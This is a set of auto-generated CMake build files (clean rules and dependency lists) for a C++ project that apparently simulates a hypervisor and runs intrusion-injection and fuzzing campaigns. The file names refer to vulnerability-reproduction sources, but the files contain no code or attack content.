