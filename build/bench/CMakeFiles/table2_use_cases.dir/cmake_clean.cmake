file(REMOVE_RECURSE
  "CMakeFiles/table2_use_cases.dir/table2_use_cases.cpp.o"
  "CMakeFiles/table2_use_cases.dir/table2_use_cases.cpp.o.d"
  "table2_use_cases"
  "table2_use_cases.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table2_use_cases.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
