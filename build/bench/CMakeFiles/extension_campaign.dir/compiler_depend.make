# Empty compiler generated dependencies file for extension_campaign.
# This may be replaced when dependencies are built.
