file(REMOVE_RECURSE
  "CMakeFiles/extension_campaign.dir/extension_campaign.cpp.o"
  "CMakeFiles/extension_campaign.dir/extension_campaign.cpp.o.d"
  "extension_campaign"
  "extension_campaign.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/extension_campaign.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
