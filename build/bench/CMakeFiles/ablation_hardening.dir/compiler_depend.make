# Empty compiler generated dependencies file for ablation_hardening.
# This may be replaced when dependencies are built.
