file(REMOVE_RECURSE
  "CMakeFiles/ablation_hardening.dir/ablation_hardening.cpp.o"
  "CMakeFiles/ablation_hardening.dir/ablation_hardening.cpp.o.d"
  "ablation_hardening"
  "ablation_hardening.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ablation_hardening.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
