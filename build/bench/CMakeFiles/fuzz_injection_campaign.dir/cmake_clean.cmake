file(REMOVE_RECURSE
  "CMakeFiles/fuzz_injection_campaign.dir/fuzz_injection_campaign.cpp.o"
  "CMakeFiles/fuzz_injection_campaign.dir/fuzz_injection_campaign.cpp.o.d"
  "fuzz_injection_campaign"
  "fuzz_injection_campaign.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fuzz_injection_campaign.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
