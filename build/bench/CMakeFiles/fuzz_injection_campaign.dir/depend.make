# Empty dependencies file for fuzz_injection_campaign.
# This may be replaced when dependencies are built.
