# Empty dependencies file for ii_net.
# This may be replaced when dependencies are built.
