file(REMOVE_RECURSE
  "libii_net.a"
)
