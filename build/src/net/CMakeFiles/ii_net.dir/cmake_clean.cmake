file(REMOVE_RECURSE
  "CMakeFiles/ii_net.dir/network.cpp.o"
  "CMakeFiles/ii_net.dir/network.cpp.o.d"
  "libii_net.a"
  "libii_net.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ii_net.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
