file(REMOVE_RECURSE
  "CMakeFiles/ii_hv.dir/audit.cpp.o"
  "CMakeFiles/ii_hv.dir/audit.cpp.o.d"
  "CMakeFiles/ii_hv.dir/event_channel.cpp.o"
  "CMakeFiles/ii_hv.dir/event_channel.cpp.o.d"
  "CMakeFiles/ii_hv.dir/frame_table.cpp.o"
  "CMakeFiles/ii_hv.dir/frame_table.cpp.o.d"
  "CMakeFiles/ii_hv.dir/grant_table.cpp.o"
  "CMakeFiles/ii_hv.dir/grant_table.cpp.o.d"
  "CMakeFiles/ii_hv.dir/hypercall_table.cpp.o"
  "CMakeFiles/ii_hv.dir/hypercall_table.cpp.o.d"
  "CMakeFiles/ii_hv.dir/hypervisor.cpp.o"
  "CMakeFiles/ii_hv.dir/hypervisor.cpp.o.d"
  "CMakeFiles/ii_hv.dir/memory.cpp.o"
  "CMakeFiles/ii_hv.dir/memory.cpp.o.d"
  "CMakeFiles/ii_hv.dir/version.cpp.o"
  "CMakeFiles/ii_hv.dir/version.cpp.o.d"
  "libii_hv.a"
  "libii_hv.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ii_hv.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
