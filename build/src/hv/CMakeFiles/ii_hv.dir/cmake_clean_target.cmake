file(REMOVE_RECURSE
  "libii_hv.a"
)
