
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/hv/audit.cpp" "src/hv/CMakeFiles/ii_hv.dir/audit.cpp.o" "gcc" "src/hv/CMakeFiles/ii_hv.dir/audit.cpp.o.d"
  "/root/repo/src/hv/event_channel.cpp" "src/hv/CMakeFiles/ii_hv.dir/event_channel.cpp.o" "gcc" "src/hv/CMakeFiles/ii_hv.dir/event_channel.cpp.o.d"
  "/root/repo/src/hv/frame_table.cpp" "src/hv/CMakeFiles/ii_hv.dir/frame_table.cpp.o" "gcc" "src/hv/CMakeFiles/ii_hv.dir/frame_table.cpp.o.d"
  "/root/repo/src/hv/grant_table.cpp" "src/hv/CMakeFiles/ii_hv.dir/grant_table.cpp.o" "gcc" "src/hv/CMakeFiles/ii_hv.dir/grant_table.cpp.o.d"
  "/root/repo/src/hv/hypercall_table.cpp" "src/hv/CMakeFiles/ii_hv.dir/hypercall_table.cpp.o" "gcc" "src/hv/CMakeFiles/ii_hv.dir/hypercall_table.cpp.o.d"
  "/root/repo/src/hv/hypervisor.cpp" "src/hv/CMakeFiles/ii_hv.dir/hypervisor.cpp.o" "gcc" "src/hv/CMakeFiles/ii_hv.dir/hypervisor.cpp.o.d"
  "/root/repo/src/hv/memory.cpp" "src/hv/CMakeFiles/ii_hv.dir/memory.cpp.o" "gcc" "src/hv/CMakeFiles/ii_hv.dir/memory.cpp.o.d"
  "/root/repo/src/hv/version.cpp" "src/hv/CMakeFiles/ii_hv.dir/version.cpp.o" "gcc" "src/hv/CMakeFiles/ii_hv.dir/version.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/sim/CMakeFiles/ii_sim.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
