# Empty dependencies file for ii_hv.
# This may be replaced when dependencies are built.
