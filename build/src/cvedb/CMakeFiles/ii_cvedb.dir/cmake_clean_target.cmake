file(REMOVE_RECURSE
  "libii_cvedb.a"
)
