# Empty compiler generated dependencies file for ii_cvedb.
# This may be replaced when dependencies are built.
