file(REMOVE_RECURSE
  "CMakeFiles/ii_cvedb.dir/advisories.cpp.o"
  "CMakeFiles/ii_cvedb.dir/advisories.cpp.o.d"
  "libii_cvedb.a"
  "libii_cvedb.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ii_cvedb.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
