file(REMOVE_RECURSE
  "libii_sim.a"
)
