file(REMOVE_RECURSE
  "CMakeFiles/ii_sim.dir/idt.cpp.o"
  "CMakeFiles/ii_sim.dir/idt.cpp.o.d"
  "CMakeFiles/ii_sim.dir/mmu.cpp.o"
  "CMakeFiles/ii_sim.dir/mmu.cpp.o.d"
  "CMakeFiles/ii_sim.dir/phys_mem.cpp.o"
  "CMakeFiles/ii_sim.dir/phys_mem.cpp.o.d"
  "CMakeFiles/ii_sim.dir/pte.cpp.o"
  "CMakeFiles/ii_sim.dir/pte.cpp.o.d"
  "libii_sim.a"
  "libii_sim.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ii_sim.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
