# Empty dependencies file for ii_sim.
# This may be replaced when dependencies are built.
