# Empty dependencies file for ii_txdb.
# This may be replaced when dependencies are built.
