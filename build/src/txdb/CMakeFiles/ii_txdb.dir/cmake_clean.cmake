file(REMOVE_RECURSE
  "CMakeFiles/ii_txdb.dir/guest_storage.cpp.o"
  "CMakeFiles/ii_txdb.dir/guest_storage.cpp.o.d"
  "CMakeFiles/ii_txdb.dir/txdb.cpp.o"
  "CMakeFiles/ii_txdb.dir/txdb.cpp.o.d"
  "libii_txdb.a"
  "libii_txdb.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ii_txdb.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
