file(REMOVE_RECURSE
  "libii_txdb.a"
)
