# Empty compiler generated dependencies file for ii_core.
# This may be replaced when dependencies are built.
