
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/core/abusive_functionality.cpp" "src/core/CMakeFiles/ii_core.dir/abusive_functionality.cpp.o" "gcc" "src/core/CMakeFiles/ii_core.dir/abusive_functionality.cpp.o.d"
  "/root/repo/src/core/campaign.cpp" "src/core/CMakeFiles/ii_core.dir/campaign.cpp.o" "gcc" "src/core/CMakeFiles/ii_core.dir/campaign.cpp.o.d"
  "/root/repo/src/core/coverage.cpp" "src/core/CMakeFiles/ii_core.dir/coverage.cpp.o" "gcc" "src/core/CMakeFiles/ii_core.dir/coverage.cpp.o.d"
  "/root/repo/src/core/fuzz.cpp" "src/core/CMakeFiles/ii_core.dir/fuzz.cpp.o" "gcc" "src/core/CMakeFiles/ii_core.dir/fuzz.cpp.o.d"
  "/root/repo/src/core/injector.cpp" "src/core/CMakeFiles/ii_core.dir/injector.cpp.o" "gcc" "src/core/CMakeFiles/ii_core.dir/injector.cpp.o.d"
  "/root/repo/src/core/intrusion_model.cpp" "src/core/CMakeFiles/ii_core.dir/intrusion_model.cpp.o" "gcc" "src/core/CMakeFiles/ii_core.dir/intrusion_model.cpp.o.d"
  "/root/repo/src/core/monitor.cpp" "src/core/CMakeFiles/ii_core.dir/monitor.cpp.o" "gcc" "src/core/CMakeFiles/ii_core.dir/monitor.cpp.o.d"
  "/root/repo/src/core/report.cpp" "src/core/CMakeFiles/ii_core.dir/report.cpp.o" "gcc" "src/core/CMakeFiles/ii_core.dir/report.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/guest/CMakeFiles/ii_guest.dir/DependInfo.cmake"
  "/root/repo/build/src/hv/CMakeFiles/ii_hv.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ii_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/ii_net.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
