file(REMOVE_RECURSE
  "CMakeFiles/ii_core.dir/abusive_functionality.cpp.o"
  "CMakeFiles/ii_core.dir/abusive_functionality.cpp.o.d"
  "CMakeFiles/ii_core.dir/campaign.cpp.o"
  "CMakeFiles/ii_core.dir/campaign.cpp.o.d"
  "CMakeFiles/ii_core.dir/coverage.cpp.o"
  "CMakeFiles/ii_core.dir/coverage.cpp.o.d"
  "CMakeFiles/ii_core.dir/fuzz.cpp.o"
  "CMakeFiles/ii_core.dir/fuzz.cpp.o.d"
  "CMakeFiles/ii_core.dir/injector.cpp.o"
  "CMakeFiles/ii_core.dir/injector.cpp.o.d"
  "CMakeFiles/ii_core.dir/intrusion_model.cpp.o"
  "CMakeFiles/ii_core.dir/intrusion_model.cpp.o.d"
  "CMakeFiles/ii_core.dir/monitor.cpp.o"
  "CMakeFiles/ii_core.dir/monitor.cpp.o.d"
  "CMakeFiles/ii_core.dir/report.cpp.o"
  "CMakeFiles/ii_core.dir/report.cpp.o.d"
  "libii_core.a"
  "libii_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ii_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
