file(REMOVE_RECURSE
  "libii_core.a"
)
