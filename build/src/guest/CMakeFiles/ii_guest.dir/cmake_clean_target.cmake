file(REMOVE_RECURSE
  "libii_guest.a"
)
