file(REMOVE_RECURSE
  "CMakeFiles/ii_guest.dir/kernel.cpp.o"
  "CMakeFiles/ii_guest.dir/kernel.cpp.o.d"
  "CMakeFiles/ii_guest.dir/payload.cpp.o"
  "CMakeFiles/ii_guest.dir/payload.cpp.o.d"
  "CMakeFiles/ii_guest.dir/platform.cpp.o"
  "CMakeFiles/ii_guest.dir/platform.cpp.o.d"
  "CMakeFiles/ii_guest.dir/shell.cpp.o"
  "CMakeFiles/ii_guest.dir/shell.cpp.o.d"
  "libii_guest.a"
  "libii_guest.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ii_guest.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
