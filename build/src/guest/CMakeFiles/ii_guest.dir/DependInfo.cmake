
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/guest/kernel.cpp" "src/guest/CMakeFiles/ii_guest.dir/kernel.cpp.o" "gcc" "src/guest/CMakeFiles/ii_guest.dir/kernel.cpp.o.d"
  "/root/repo/src/guest/payload.cpp" "src/guest/CMakeFiles/ii_guest.dir/payload.cpp.o" "gcc" "src/guest/CMakeFiles/ii_guest.dir/payload.cpp.o.d"
  "/root/repo/src/guest/platform.cpp" "src/guest/CMakeFiles/ii_guest.dir/platform.cpp.o" "gcc" "src/guest/CMakeFiles/ii_guest.dir/platform.cpp.o.d"
  "/root/repo/src/guest/shell.cpp" "src/guest/CMakeFiles/ii_guest.dir/shell.cpp.o" "gcc" "src/guest/CMakeFiles/ii_guest.dir/shell.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/hv/CMakeFiles/ii_hv.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/ii_net.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ii_sim.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
