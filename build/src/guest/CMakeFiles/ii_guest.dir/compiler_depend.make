# Empty compiler generated dependencies file for ii_guest.
# This may be replaced when dependencies are built.
