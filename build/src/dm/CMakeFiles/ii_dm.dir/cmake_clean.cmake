file(REMOVE_RECURSE
  "CMakeFiles/ii_dm.dir/device_model.cpp.o"
  "CMakeFiles/ii_dm.dir/device_model.cpp.o.d"
  "libii_dm.a"
  "libii_dm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ii_dm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
