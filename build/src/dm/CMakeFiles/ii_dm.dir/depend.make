# Empty dependencies file for ii_dm.
# This may be replaced when dependencies are built.
