file(REMOVE_RECURSE
  "libii_dm.a"
)
