file(REMOVE_RECURSE
  "libii_xsa.a"
)
