
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/xsa/destroy_leak.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/destroy_leak.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/destroy_leak.cpp.o.d"
  "/root/repo/src/xsa/evtchn_storm.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/evtchn_storm.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/evtchn_storm.cpp.o.d"
  "/root/repo/src/xsa/exchange_primitive.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/exchange_primitive.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/exchange_primitive.cpp.o.d"
  "/root/repo/src/xsa/usecases.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/usecases.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/usecases.cpp.o.d"
  "/root/repo/src/xsa/vuln_backed_injector.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/vuln_backed_injector.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/vuln_backed_injector.cpp.o.d"
  "/root/repo/src/xsa/xsa133_venom.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/xsa133_venom.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/xsa133_venom.cpp.o.d"
  "/root/repo/src/xsa/xsa148_priv.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/xsa148_priv.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/xsa148_priv.cpp.o.d"
  "/root/repo/src/xsa/xsa182_test.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/xsa182_test.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/xsa182_test.cpp.o.d"
  "/root/repo/src/xsa/xsa212_crash.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/xsa212_crash.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/xsa212_crash.cpp.o.d"
  "/root/repo/src/xsa/xsa212_priv.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/xsa212_priv.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/xsa212_priv.cpp.o.d"
  "/root/repo/src/xsa/xsa387_keep.cpp" "src/xsa/CMakeFiles/ii_xsa.dir/xsa387_keep.cpp.o" "gcc" "src/xsa/CMakeFiles/ii_xsa.dir/xsa387_keep.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/ii_core.dir/DependInfo.cmake"
  "/root/repo/build/src/guest/CMakeFiles/ii_guest.dir/DependInfo.cmake"
  "/root/repo/build/src/dm/CMakeFiles/ii_dm.dir/DependInfo.cmake"
  "/root/repo/build/src/hv/CMakeFiles/ii_hv.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ii_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/ii_net.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
