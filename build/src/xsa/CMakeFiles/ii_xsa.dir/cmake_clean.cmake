file(REMOVE_RECURSE
  "CMakeFiles/ii_xsa.dir/destroy_leak.cpp.o"
  "CMakeFiles/ii_xsa.dir/destroy_leak.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/evtchn_storm.cpp.o"
  "CMakeFiles/ii_xsa.dir/evtchn_storm.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/exchange_primitive.cpp.o"
  "CMakeFiles/ii_xsa.dir/exchange_primitive.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/usecases.cpp.o"
  "CMakeFiles/ii_xsa.dir/usecases.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/vuln_backed_injector.cpp.o"
  "CMakeFiles/ii_xsa.dir/vuln_backed_injector.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/xsa133_venom.cpp.o"
  "CMakeFiles/ii_xsa.dir/xsa133_venom.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/xsa148_priv.cpp.o"
  "CMakeFiles/ii_xsa.dir/xsa148_priv.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/xsa182_test.cpp.o"
  "CMakeFiles/ii_xsa.dir/xsa182_test.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/xsa212_crash.cpp.o"
  "CMakeFiles/ii_xsa.dir/xsa212_crash.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/xsa212_priv.cpp.o"
  "CMakeFiles/ii_xsa.dir/xsa212_priv.cpp.o.d"
  "CMakeFiles/ii_xsa.dir/xsa387_keep.cpp.o"
  "CMakeFiles/ii_xsa.dir/xsa387_keep.cpp.o.d"
  "libii_xsa.a"
  "libii_xsa.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ii_xsa.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
