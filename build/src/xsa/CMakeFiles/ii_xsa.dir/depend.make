# Empty dependencies file for ii_xsa.
# This may be replaced when dependencies are built.
