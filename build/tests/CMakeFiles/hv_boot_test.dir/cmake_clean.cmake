file(REMOVE_RECURSE
  "CMakeFiles/hv_boot_test.dir/hv_boot_test.cpp.o"
  "CMakeFiles/hv_boot_test.dir/hv_boot_test.cpp.o.d"
  "hv_boot_test"
  "hv_boot_test.pdb"
  "hv_boot_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_boot_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
