# Empty compiler generated dependencies file for dm_device_model_test.
# This may be replaced when dependencies are built.
