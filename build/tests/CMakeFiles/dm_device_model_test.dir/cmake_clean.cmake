file(REMOVE_RECURSE
  "CMakeFiles/dm_device_model_test.dir/dm_device_model_test.cpp.o"
  "CMakeFiles/dm_device_model_test.dir/dm_device_model_test.cpp.o.d"
  "dm_device_model_test"
  "dm_device_model_test.pdb"
  "dm_device_model_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/dm_device_model_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
