file(REMOVE_RECURSE
  "CMakeFiles/extension_usecase_test.dir/extension_usecase_test.cpp.o"
  "CMakeFiles/extension_usecase_test.dir/extension_usecase_test.cpp.o.d"
  "extension_usecase_test"
  "extension_usecase_test.pdb"
  "extension_usecase_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/extension_usecase_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
