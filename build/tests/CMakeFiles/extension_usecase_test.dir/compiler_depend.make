# Empty compiler generated dependencies file for extension_usecase_test.
# This may be replaced when dependencies are built.
