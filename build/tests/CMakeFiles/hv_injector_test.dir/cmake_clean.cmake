file(REMOVE_RECURSE
  "CMakeFiles/hv_injector_test.dir/hv_injector_test.cpp.o"
  "CMakeFiles/hv_injector_test.dir/hv_injector_test.cpp.o.d"
  "hv_injector_test"
  "hv_injector_test.pdb"
  "hv_injector_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_injector_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
