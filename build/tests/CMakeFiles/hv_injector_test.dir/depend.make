# Empty dependencies file for hv_injector_test.
# This may be replaced when dependencies are built.
