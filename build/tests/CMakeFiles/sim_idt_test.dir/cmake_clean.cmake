file(REMOVE_RECURSE
  "CMakeFiles/sim_idt_test.dir/sim_idt_test.cpp.o"
  "CMakeFiles/sim_idt_test.dir/sim_idt_test.cpp.o.d"
  "sim_idt_test"
  "sim_idt_test.pdb"
  "sim_idt_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sim_idt_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
