file(REMOVE_RECURSE
  "CMakeFiles/campaign_integration_test.dir/campaign_integration_test.cpp.o"
  "CMakeFiles/campaign_integration_test.dir/campaign_integration_test.cpp.o.d"
  "campaign_integration_test"
  "campaign_integration_test.pdb"
  "campaign_integration_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/campaign_integration_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
