file(REMOVE_RECURSE
  "CMakeFiles/sim_pte_test.dir/sim_pte_test.cpp.o"
  "CMakeFiles/sim_pte_test.dir/sim_pte_test.cpp.o.d"
  "sim_pte_test"
  "sim_pte_test.pdb"
  "sim_pte_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sim_pte_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
