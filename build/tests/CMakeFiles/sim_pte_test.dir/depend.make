# Empty dependencies file for sim_pte_test.
# This may be replaced when dependencies are built.
