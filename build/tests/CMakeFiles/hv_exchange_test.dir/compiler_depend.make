# Empty compiler generated dependencies file for hv_exchange_test.
# This may be replaced when dependencies are built.
