file(REMOVE_RECURSE
  "CMakeFiles/hv_exchange_test.dir/hv_exchange_test.cpp.o"
  "CMakeFiles/hv_exchange_test.dir/hv_exchange_test.cpp.o.d"
  "hv_exchange_test"
  "hv_exchange_test.pdb"
  "hv_exchange_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_exchange_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
