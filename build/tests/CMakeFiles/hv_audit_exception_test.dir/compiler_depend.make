# Empty compiler generated dependencies file for hv_audit_exception_test.
# This may be replaced when dependencies are built.
