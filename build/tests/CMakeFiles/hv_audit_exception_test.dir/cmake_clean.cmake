file(REMOVE_RECURSE
  "CMakeFiles/hv_audit_exception_test.dir/hv_audit_exception_test.cpp.o"
  "CMakeFiles/hv_audit_exception_test.dir/hv_audit_exception_test.cpp.o.d"
  "hv_audit_exception_test"
  "hv_audit_exception_test.pdb"
  "hv_audit_exception_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_audit_exception_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
