# Empty compiler generated dependencies file for hv_grant_event_test.
# This may be replaced when dependencies are built.
