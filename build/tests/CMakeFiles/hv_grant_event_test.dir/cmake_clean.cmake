file(REMOVE_RECURSE
  "CMakeFiles/hv_grant_event_test.dir/hv_grant_event_test.cpp.o"
  "CMakeFiles/hv_grant_event_test.dir/hv_grant_event_test.cpp.o.d"
  "hv_grant_event_test"
  "hv_grant_event_test.pdb"
  "hv_grant_event_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_grant_event_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
