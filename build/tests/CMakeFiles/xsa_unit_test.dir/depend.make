# Empty dependencies file for xsa_unit_test.
# This may be replaced when dependencies are built.
