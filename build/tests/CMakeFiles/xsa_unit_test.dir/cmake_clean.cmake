file(REMOVE_RECURSE
  "CMakeFiles/xsa_unit_test.dir/xsa_unit_test.cpp.o"
  "CMakeFiles/xsa_unit_test.dir/xsa_unit_test.cpp.o.d"
  "xsa_unit_test"
  "xsa_unit_test.pdb"
  "xsa_unit_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/xsa_unit_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
