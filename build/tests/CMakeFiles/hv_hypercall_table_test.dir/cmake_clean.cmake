file(REMOVE_RECURSE
  "CMakeFiles/hv_hypercall_table_test.dir/hv_hypercall_table_test.cpp.o"
  "CMakeFiles/hv_hypercall_table_test.dir/hv_hypercall_table_test.cpp.o.d"
  "hv_hypercall_table_test"
  "hv_hypercall_table_test.pdb"
  "hv_hypercall_table_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_hypercall_table_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
