# Empty dependencies file for state_equivalence_test.
# This may be replaced when dependencies are built.
