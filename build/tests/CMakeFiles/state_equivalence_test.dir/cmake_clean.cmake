file(REMOVE_RECURSE
  "CMakeFiles/state_equivalence_test.dir/state_equivalence_test.cpp.o"
  "CMakeFiles/state_equivalence_test.dir/state_equivalence_test.cpp.o.d"
  "state_equivalence_test"
  "state_equivalence_test.pdb"
  "state_equivalence_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/state_equivalence_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
