# Empty dependencies file for core_coverage_parallel_test.
# This may be replaced when dependencies are built.
