# Empty dependencies file for guest_shell_test.
# This may be replaced when dependencies are built.
