file(REMOVE_RECURSE
  "CMakeFiles/guest_shell_test.dir/guest_shell_test.cpp.o"
  "CMakeFiles/guest_shell_test.dir/guest_shell_test.cpp.o.d"
  "guest_shell_test"
  "guest_shell_test.pdb"
  "guest_shell_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/guest_shell_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
