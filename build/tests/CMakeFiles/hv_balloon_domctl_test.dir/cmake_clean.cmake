file(REMOVE_RECURSE
  "CMakeFiles/hv_balloon_domctl_test.dir/hv_balloon_domctl_test.cpp.o"
  "CMakeFiles/hv_balloon_domctl_test.dir/hv_balloon_domctl_test.cpp.o.d"
  "hv_balloon_domctl_test"
  "hv_balloon_domctl_test.pdb"
  "hv_balloon_domctl_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_balloon_domctl_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
