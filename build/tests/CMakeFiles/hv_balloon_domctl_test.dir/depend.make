# Empty dependencies file for hv_balloon_domctl_test.
# This may be replaced when dependencies are built.
