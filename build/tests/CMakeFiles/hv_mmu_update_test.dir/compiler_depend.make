# Empty compiler generated dependencies file for hv_mmu_update_test.
